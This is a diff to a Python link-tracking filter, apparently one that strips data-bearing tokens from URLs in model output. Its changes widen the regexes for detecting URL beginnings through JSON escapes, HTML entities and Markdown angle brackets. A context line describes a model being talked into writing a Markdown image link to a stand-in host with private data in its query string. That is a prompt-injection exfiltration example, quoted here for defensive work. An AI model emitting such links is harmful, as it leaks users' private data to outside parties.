@@ -4,7 +4,7 @@ A model can be talked into writing `![](https://elsewhere.example/?q=[PII:EMAIL:
 renders the answer would deliver it. So a token inside a URL stays, unless the caller sent the same URL, up to that token,
 in the request that is being answered.
 
-A URL begins at `scheme://`, `www.`, or `//` where a link's target stands, also with slashes escaped for JSON or spelt as HTML entities.
+A URL begins at `scheme://`, `www.`, or `//` where a link's target stands (in angle brackets only behind `](` or `]:`), also with slashes escaped for JSON or spelt as HTML entities.
 Where it ends depends on what it stands in, as renderers see it: a quoted attribute goes on to its quote, whatever is in it; a
 Markdown target to the parenthesis that closes it; one in running text to a blank. `mailto:` and `tel:` are no such URLs: whoever
 follows them sends nothing by it.
@@ -25,7 +25,7 @@ _START = re.compile(
     rf"""{_COLON}{_SLASH}{_SLASH}
       | https?{_COLON}\\{{0,4}}[/\\]
       | (?<![\w.@-])www\.
-      | (?:[("'<]|\]:|{_ATTRIBUTE})\s{{0,3}}{_SLASH}{_SLASH}
+      | (?:[("']|\](?:\(|:)\s{{0,3}}<|\]:|{_ATTRIBUTE})\s{{0,3}}{_SLASH}{_SLASH}
       | {_ATTRIBUTE}\\{{0,4}}["']?\s{{0,3}}\\{{2}}
     """,
     re.VERBOSE | re.IGNORECASE,
@@ -33,7 +33,7 @@ _START = re.compile(
 _COMPLETES = re.compile(r"[/\\;]|www\.", re.IGNORECASE)
 """Every beginning of a URL ends in one of these."""
 _OPENER = re.compile(
-    rf"""(?:(?P<attribute>{_ATTRIBUTE})?(?P<escapes>\\{{0,8}})(?P<quote>["'])\s{{0,3}}
+    rf"""(?:(?P<attribute>{_ATTRIBUTE})?(?P<escapes>\\{{0,255}})(?P<quote>["'])\s{{0,3}}
       | (?P<bare_attribute>{_ATTRIBUTE})
       | (?P<angle><)\s{{0,3}}
       | (?P<target>\]\()\s{{0,3}}
@@ -42,8 +42,9 @@ _OPENER = re.compile(
     re.VERBOSE | re.IGNORECASE,
 )
 _SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,31}\Z")
-_KEPT = 96
-"""Characters of running text that are kept, so that the beginning of a URL is seen wherever it is cut."""
+_KEPT = 320
+"""Characters of running text that are kept, so that the beginning of a URL is seen wherever it is cut: a quote in JSON that stands in
+JSON eight times over has 255 backslashes before it."""
 
 
 class _In(Enum):
@@ -132,7 +133,7 @@ class LinkTracker:
         if scheme is not None:
             before, start = before[: scheme.start()], scheme.group() + start
         else:  # an opener that belongs to the pattern itself
-            opened = len(start) - len(start.lstrip("(\"'<]:"))
+            opened = len(start) - len(start.lstrip("(\"'<]: \t\r\n"))
             if attribute := re.match(_ATTRIBUTE + r"\\{0,4}[\"']?", start, re.IGNORECASE):
                 opened = attribute.end()
             before, start = before + start[:opened], start[opened:]
